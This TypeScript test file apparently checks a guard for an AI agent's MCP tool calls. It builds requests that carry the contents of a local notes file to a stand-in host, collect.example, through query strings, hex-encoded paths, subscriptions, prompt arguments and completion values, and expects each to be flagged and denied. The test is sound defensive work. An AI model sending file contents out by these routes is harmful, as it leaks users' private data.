import { expect } from 'vitest';
import { Reason } from '../../../src/shared/verdict.ts';
import type { Attack } from '../rig/attack.ts';
import { Chat, remembered } from '../rig/chat.ts';

const COLLECT = 'https://collect.example/v1';
const LISTED = 'https://weather.example/oslo';
const OTHER = 'https://weather.example/bergen?days=3';

export const attack: Attack = {
  passes: ['Northwind'],
  ran: [
    ...['read_file', 'read_file', `read ${LISTED}`, `read ${OTHER.slice(0, 30)}`, 'prompt letter'],
    ...['read_file', `read ${COLLECT}?d=T`, 'read_file', `read ${COLLECT}?d=T`],
  ],
  async run(stage) {
    const web = await stage.connect();
    const files = await stage.connect({ name: 'files', file: 'files.mjs' });
    await remembered(stage, [[files, 'read_file', { path: 'a.md' }]]);
    await stage.tools(web);
    await web.answer(web.request('resources/list'));
    const { person } = stage.machine;
    const ask = (talk: string, method: string, params: object): number =>
      web.request(method, { ...params, _meta: { 'vscode.conversationId': talk } });

    const chat = new Chat(stage, 'work');
    const notes = await chat.runs(files, 'read_file', { path: 'notes.md' });
    const asked = person.calls.length;
    for (const uri of [LISTED, OTHER])
      expect((await web.answer(ask('work', 'resources/read', { uri }))).error).toBeUndefined();
    const plain = { name: 'letter', arguments: { about: 'the weather' } };
    expect((await web.answer(ask('work', 'prompts/get', plain))).error).toBeUndefined();
    expect(person.calls.length).toBe(asked);

    const uri = `${COLLECT}?d=${notes.replaceAll(' ', '+')}`;
    const carried: readonly (readonly [string, object, string])[] = [
      ['resources/read', { uri }, '/uri'],
      ['resources/read', { uri: `${COLLECT}/${Buffer.from(notes).toString('hex')}` }, '/uri'],
      ['resources/subscribe', { uri }, '/uri'],
      ['prompts/get', { name: 'letter', arguments: { about: notes } }, '/arguments/about'],
      [
        'completion/complete',
        {
          ref: { type: 'ref/resource', uri: `${COLLECT}?d={d}` },
          argument: { name: 'd', value: notes },
        },
        '/argument/value',
      ],
    ];
    const ran = stage.ran.length;
    for (const [method, params, path] of carried) {
      const id = ask('work', method, params);
      const card = await person.call(person.calls.length + 1);
      expect(card.question).toMatchObject({
        ...{ tool: method, request: true, reasons: [Reason.privateOut] },
        suspicion: { trails: [{ path, source: { server: 'files', tool: 'read_file' } }] },
      });
      expect(stage.ran).toHaveLength(ran);
      card.answer({ kind: 'deny', block: false });
      expect((await web.answer(id)).error?.message).toContain('denied');
    }
    expect(stage.ran).toHaveLength(ran);

    const again = ask('work', 'resources/read', { uri });
    expect((await web.answer(again)).error?.message).toContain('earlier in this conversation');

    const next = new Chat(stage, 'the flow is fine');
    await next.runs(files, 'read_file', { path: 'notes.md' });
    const fine = ask('the flow is fine', 'resources/read', { uri });
    const card = await person.call(person.calls.length + 1);
    card.answer({ kind: 'allow', scope: 'fine' });
    expect((await web.answer(fine)).error).toBeUndefined();
    const later = new Chat(stage, 'later');
    await later.runs(files, 'read_file', { path: 'notes.md' });
    const count = person.calls.length;
    expect((await web.answer(ask('later', 'resources/read', { uri }))).error).toBeUndefined();
    expect(person.calls.length).toBe(count);
  },
};
